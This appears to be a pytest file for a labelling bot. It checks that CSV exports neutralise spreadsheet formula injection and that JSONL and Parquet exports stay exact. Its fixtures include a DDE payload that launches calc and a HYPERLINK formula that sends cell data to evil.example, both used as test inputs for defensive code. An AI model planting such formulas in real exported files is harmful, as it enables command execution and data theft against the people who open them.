"""CSV exports never hand a spreadsheet a formula: item ids, texts, metadata and typed rewrites that
start with = + - @ (or a tab or CR) arrive as text; JSONL and Parquet stay exact."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq

from bot.services.export import csv_cell
from tests.conftest import make_spec
from tests.helpers import qualify, seed

NASTY_ID = "=cmd|' /C calc'!A0"
ITEMS = [
    {"id": NASTY_ID, "text": "+SUM(1+1)*cmd|' /C calc'!A0", "note": "@SUM(A1:A9)"},
    {"id": "-2+3", "text": "\tTab first", "note": "\r=1+1"},
    {"id": "plain", "text": "Nothing odd here", "note": "ok"},
]
TYPED = {NASTY_ID: '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3": "-1+1", "plain": "@mention"}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _label_everything(bot) -> None:
    seed(bot.db, make_spec(task="rewrite", labels=[], redundancy=1, llm={"enabled": False}), bot.clock.now(),
         items=ITEMS)
    qualify(bot.db, "intents", "U0ANN", bot.clock.now())
    ann = bot.user("U0ANN")
    ann.command("/label")
    for n in range(len(ITEMS)):
        msg = bot.fake.wait_for(lambda k=n: len(bot.fake.messages(ann.dm)) > k and bot.fake.last_message(ann.dm))
        text = msg["blocks"][1]["text"]["text"]
        ext = next(i["id"] for i in ITEMS if i["text"] == text)
        before = len(bot.fake.views_open("U0ANN"))
        ann.click(msg, "label.edit")  # no draft: the "Answer" button opens the modal
        view = bot.fake.wait_for(lambda b=before: len(bot.fake.views_open("U0ANN")) > b
                                 and bot.fake.views_open("U0ANN")[-1])
        assert ann.submit_view(view, {"lb.edit_input": {"value": TYPED[ext]}}).status == 200
    bot.fake.wait_for(lambda: "queue is empty" in (bot.fake.last_message(ann.dm) or {}).get("text", ""))


def _export(bot, args: str, n: int) -> dict:
    lead = bot.user("U0LEAD")
    assert lead.command("/label-export", args).status == 200
    files = bot.fake.wait_for(lambda: len(bot.fake.files(lead.dm)) >= n and bot.fake.files(lead.dm))
    return files[n - 1]


def test_csv_cells_are_neutralised_and_jsonl_parquet_stay_exact(bot):
    _label_everything(bot)

    final = list(csv.DictReader(io.StringIO(_export(bot, "intents csv", 1)["content"].decode("utf-8"))))
    by_input = {row["text"]: row for row in final}  # the final CSV keeps the import's names
    nasty = by_input["'+SUM(1+1)*cmd|' /C calc'!A0"]
    assert nasty["id"] == "'" + NASTY_ID
    assert nasty["label"] == "'" + TYPED[NASTY_ID]
    assert nasty["note"] == "'@SUM(A1:A9)"  # metadata is spread into columns: neutralised like any cell
    assert by_input["'\tTab first"]["id"] == "'-2+3" and by_input["'\tTab first"]["label"] == "'-1+1"
    assert by_input["Nothing odd here"]["label"] == "'@mention" and by_input["Nothing odd here"]["id"] == "plain"
    assert float(nasty["confidence"]) == 1.0  # numbers stay numbers

    raw = list(csv.DictReader(io.StringIO(_export(bot, "intents csv raw", 2)["content"].decode("utf-8"))))
    assert len(raw) == 3
    for row in final + raw:
        for column, cell in row.items():
            assert not cell.startswith(STARTS), (column, cell)

    exact = [json.loads(x) for x in _export(bot, "intents jsonl", 3)["content"].decode("utf-8").splitlines()]
    assert {r["id"]: r["label"] for r in exact} == TYPED
    assert {r["id"]: r["meta"]["note"] for r in exact}["-2+3"] == "\r=1+1"
    table = pq.read_table(io.BytesIO(_export(bot, "intents parquet", 4)["content"])).to_pylist()
    assert {r["id"]: r["label"] for r in table} == TYPED


def test_csv_cell_rules():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", ""]
    assert [csv_cell(v) for v in (-1.5, -3, True, ["=x"], {"a": "=b"})] == [
        "-1.5", "-3", "true", '["=x"]', '{"a": "=b"}']
